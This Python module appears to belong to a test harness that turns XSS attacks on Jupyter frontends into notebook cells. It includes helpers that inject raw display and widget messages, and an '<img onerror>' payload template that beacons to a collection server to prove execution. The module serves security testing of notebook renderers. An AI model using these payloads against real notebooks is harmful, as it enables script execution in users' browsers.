"""The attacks of ``attacks.toml``, as cells."""

import tomllib
from dataclasses import dataclass
from pathlib import Path

#: Run before all attacks: short ways to send what no well-behaved library sends.
PRELUDE = r'''
import base64
import ipywidgets as w
from comm import create_comm
from IPython.display import HTML, display, update_display
kernel = get_ipython().kernel

def show(mime, data, metadata=None):
    display({mime: data}, raw=True, metadata=metadata or {})

def html(text, metadata=None):
    show("text/html", text, metadata)

def send(kind, content):
    kernel.session.send(kernel.iopub_socket, kind, content, parent=kernel.get_parent(), ident=kind.encode())

def model(state, buffers=(), **more):
    """A widget made of raw messages, and its view."""
    data = {"state": state, **more}
    widget = create_comm("jupyter.widget", data=data, buffers=list(buffers), metadata={"version": "2.1.0"})
    view = {"version_major": 2, "version_minor": 0, "model_id": widget.comm_id}
    show("application/vnd.jupyter.widget-view+json", view)

def of_module(module, version, model, view):
    names = {"_model_module": module, "_model_name": model, "_view_module": module, "_view_name": view}
    return {**names, "_model_module_version": version, "_view_module_version": version}

def core(name, **state):
    """The state of a core widget."""
    names = of_module("@jupyter-widgets/controls", "2.0.0", name + "Model", name + "View")
    return {**names, "layout": "IPY_MODEL_" + w.Layout().model_id, **state}

def any_widget(**state):
    model({**of_module("anywidget", "~0.11.*", "AnyModel", "AnyView"), "_anywidget_id": "x", **state})
'''

_WORDS = {
    "IMG": '<img src="data:," onerror="PWN">',
    "TOAST": "Toastify__toast-container Toastify__toast-container--bottom-right",
    "PWN": "fetch(`HIT`)",
}
_KINDS = {"html": "text/html", "markdown": "text/markdown", "latex": "text/latex"}


@dataclass(frozen=True)
class Attack:
    """One cell: what it does, what a person does then, and whether it works with an ordinary kernel."""

    name: str
    does: str
    code: str
    then: str = ""
    bait: str = "bait"
    lab: str = ""

    def cell(self, address: str) -> str:
        """The code, with proofs that go to a server's ``address``."""
        words = {**_WORDS, "HIT": f"{address}?pwn={self.name}", "NAME": self.name}
        if self.name.startswith("md-link"):
            words["PWN"] = "fetch('HIT')"  # Markdown takes backquotes for code
        code = self.code
        for word, meant in words.items():
            code = code.replace(word, meant)
        return code


def _attack(name: str, table: dict[str, str]) -> Attack:
    for kind in _KINDS.keys() & table.keys():
        table["code"] = f"show({_KINDS[kind]!r}, r'''{table.pop(kind)}''')"
    return Attack(name, **table)


ATTACKS = [_attack(*item) for item in tomllib.loads(Path(__file__).with_name("attacks.toml").read_text()).items()]
